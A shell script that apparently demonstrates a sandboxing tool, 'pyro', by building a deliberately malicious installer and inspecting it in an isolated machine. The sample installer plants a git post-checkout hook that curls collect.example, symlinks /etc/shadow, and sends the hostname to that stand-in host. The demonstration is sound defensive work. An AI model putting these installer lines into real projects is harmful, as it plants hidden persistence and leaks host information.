#!/bin/sh
# What is in an archive that nobody vouches for, and what does it do when it runs?
#
#   examples/use-cases/untrusted-archive/run.sh
#
# Any line below may be pasted into a shell; without the next one, where pyro is in PATH.
pyro() { command "${PYRO:-pyro}" "$@"; }
set -eux

# An archive from somewhere, with an installer that does more than it says.
download=$(mktemp -d)
trap 'pyro delete strange; rm -rf "$download"' EXIT
mkdir "$download/tool"
cat > "$download/tool/install.sh" <<'INSTALL'
#!/bin/sh
echo installing the tool
mkdir -p .git/hooks
printf '#!/bin/sh\ncurl -s http://collect.example/\n' > .git/hooks/post-checkout
chmod +x .git/hooks/post-checkout
ln -s /etc/shadow notes.txt
curl -sS --max-time 5 "http://collect.example/?host=$(hostname)" || true
echo done
INSTALL
tar -C "$download" -czf "$download/tool.tar.gz" tool

# It is unpacked into a machine of its own; nothing in it can be written anywhere else.
pyro env build debian:12
pyro create debian:12 --name strange --seed-path "$download/tool.tar.gz" --allow 192.0.2.1
pyro file list strange --recursive
pyro file search strange 'curl|wget'

# It runs, with nothing to reach. What it wanted is told.
pyro exec strange -- sh -c 'cd tool && sh install.sh'
pyro workspace network log strange | grep collect.example

# What it did to the files. What would run by itself, or leads out, is marked.
pyro diff strange --all > "$download/report"
cat "$download/report"
grep 'tool/.git/hooks/post-checkout.*hook' "$download/report"
grep 'tool/notes.txt.*lead' "$download/report"

# Whatever runs in there is over; the files can still be looked at, and nothing of them runs.
pyro stop strange
pyro disk list strange --recursive
pyro disk read strange tool/.git/hooks/post-checkout --content-only

# Taken out to be kept: links come as they are, and lead nobody anywhere.
pyro export strange tool --output "$download/evidence" --no-start && false
pyro disk export strange --output "$download/strange.ext4"
